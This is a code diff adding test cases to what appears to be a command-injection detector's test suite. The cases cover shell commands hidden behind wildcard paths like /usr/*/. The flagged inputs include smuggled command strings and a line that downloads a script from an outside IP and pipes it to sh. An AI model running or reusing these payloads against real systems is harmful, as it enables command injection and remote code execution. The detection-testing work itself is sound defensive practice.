@@ -2067,3 +2067,12 @@ describe("cmdi session 23 (hs27): Perl's readpipe( is its backticks as a functio
     '%s is a command', expectCmdi);
   it.each(['readpipe', 'the readpipe function in perl', 'readpipe(x)'])('%s stays clean', expectNoCmdi);
 });
+
+describe('cmdi session 24 (rt28c): a directory of wildcards alone, at the root or in a bin directory, names bin', () => {
+  // /usr/*/id ran id in bash, dash and busybox sh (and downloaded and ran a script: x;/usr/*/curl -s …|/usr/*/sh); the glob
+  // rule wants wildcards mixed with letters (/b?n/), the bin-path rule a literal /bin/
+  it.each(['x;/usr/*/id', '/usr/*/id', '$(/usr/*/touch /tmp/x)', 'x;/*/whoami', 'x;/usr/*/curl -s 1.2.3.4/s|/usr/*/sh', '`/usr/*/touch x`', '/usr/*/id|', 'x;/?/id'])(
+    '%s is a command', expectCmdi);
+  it.each(['src/*/test', '/api/*/users', '/home/*/bin', '**/*.js', '/docs/*/install', 'see /*/ comment', 'a/*/cat'])('%s stays clean', expectNoCmdi);
+  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, ['x%3B%2Fusr%2F%2A%2Fid', '%60%2Fusr%2F%2A%2Ftouch%20x%60']); });
+});
